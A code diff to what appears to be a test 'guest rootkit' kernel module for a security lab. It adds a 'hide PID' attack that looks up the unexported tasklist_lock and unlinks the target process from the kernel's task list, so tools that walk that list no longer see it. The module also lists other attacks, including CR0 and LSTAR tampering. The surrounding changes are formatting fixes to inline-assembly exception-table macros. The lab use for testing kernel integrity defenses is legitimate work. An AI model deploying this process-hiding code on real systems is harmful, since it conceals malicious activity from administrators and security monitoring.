@@ -15,6 +15,9 @@
  *   lstar   point IA32_LSTAR at a stub of its own (e); if the write is taken, LSTAR is put
  *           back at once (the stub is not mapped in the user page tables PTI switches
  *           from, so the guest could not survive a system call through it)
+ *   hide N  take process N off the tasks list (f): list_del_init under tasklist_lock, so its
+ *           exit later unlinks nothing and the kernel stays sound; /proc (the pid IDR)
+ *           still lists it, for_each_process and a tasks-list walk do not
  *
  * Every attack that can fault is done with an exception-table fixup, so a refused one
  * (#GP from a pinned CR0 bit or MSR) does not oops. Each logs one line, which the lab's
@@ -35,6 +38,9 @@
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/moduleparam.h>
+#include <linux/pid.h>
+#include <linux/sched/signal.h>
+#include <linux/sched/task.h>
 #include <linux/string.h>
 #include <linux/vmalloc.h>
 #include <asm/asm.h>
@@ -67,13 +73,15 @@ static ssize_t stub_freeze(void *of, char *buf, size_t nbytes, loff_t off)
 	return nbytes;
 }
 
+/* clang-format would write the exception-table macro's "%0" as "% 0" */
+/* clang-format off */
 /* mov to CR0 with a fixup: 0, or -EFAULT when the CPU refused it (#GP) */
 static int write_cr0_safe(unsigned long v)
 {
 	int err = 0;
 
 	asm volatile("1: mov %1, %%cr0\n"
-		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, % 0)
+		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
 		     : "+r"(err)
 		     : "r"(v)
 		     : "memory");
@@ -87,7 +95,7 @@ static int store8_safe(void *p, unsigned long v)
 	int err = 0;
 
 	asm volatile("1: movq %2, (%1)\n"
-		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, % 0)
+		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
 		     : "+r"(err)
 		     : "r"(p), "r"(v)
 		     : "memory");
@@ -99,12 +107,14 @@ static int store1_safe(u8 *p, u8 v)
 	int err = 0;
 
 	asm volatile("1: movb %2, (%1)\n"
-		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, % 0)
+		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
 		     : "+r"(err)
 		     : "r"(p), "q"(v)
 		     : "memory");
 	return err;
 }
+
+/* clang-format on */
 
 static int copy_safe(u8 *dst, const u8 *src, size_t n)
 {
@@ -264,6 +274,30 @@ static void attack_lstar(void)
 	pr_notice("GUEST-ROOTKIT lstar write=%d moved=%d\n", rc, after != before);
 }
 
+static void attack_hide(const char *arg)
+{
+	struct task_struct *t;
+	/* not exported: found as kallsyms_lookup_name was */
+	rwlock_t *tasklist = lookup ? (rwlock_t *)lookup("tasklist_lock") : NULL;
+	int nr, rc = kstrtoint(arg, 10, &nr);
+
+	if (rc == 0 && tasklist == NULL)
+		rc = -ENOENT;
+	if (rc == 0) {
+		rcu_read_lock();
+		t = pid_task(find_vpid(nr), PIDTYPE_PID);
+		if (t != NULL && thread_group_leader(t)) {
+			write_lock_irq(tasklist);
+			list_del_init(&t->tasks);
+			write_unlock_irq(tasklist);
+		} else {
+			rc = -ESRCH;
+		}
+		rcu_read_unlock();
+	}
+	pr_notice("GUEST-ROOTKIT hide pid=%s unlinked=%d\n", arg, rc == 0);
+}
+
 static const struct {
 	const char *name;
 	void (*run)(void);
@@ -275,7 +309,14 @@ static const struct {
 static int run_set(const char *val, const struct kernel_param *kp)
 {
 	size_t n = strcspn(val, "\n");
+	char arg[16];
 
+	if (n > 5 && n - 5 < sizeof(arg) && !strncmp(val, "hide ", 5)) {
+		memcpy(arg, val + 5, n - 5);
+		arg[n - 5] = '\0';
+		attack_hide(arg);
+		return 0;
+	}
 	for (size_t i = 0; i < ARRAY_SIZE(attacks); i++) {
 		if (strlen(attacks[i].name) == n && !strncmp(val, attacks[i].name, n)) {
 			attacks[i].run();
@@ -288,7 +329,7 @@ static int run_set(const char *val, const struct kernel_param *kp)
 
 static const struct kernel_param_ops run_ops = {.set = run_set};
 module_param_cb(run, &run_ops, NULL, 0200);
-MODULE_PARM_DESC(run, "the attack to run: wp, alias, ftrace, kprobe, inline, lstar");
+MODULE_PARM_DESC(run, "the attack to run: wp, alias, ftrace, kprobe, inline, lstar, hide PID");
 
 static int __init rootkit_init(void)
 {
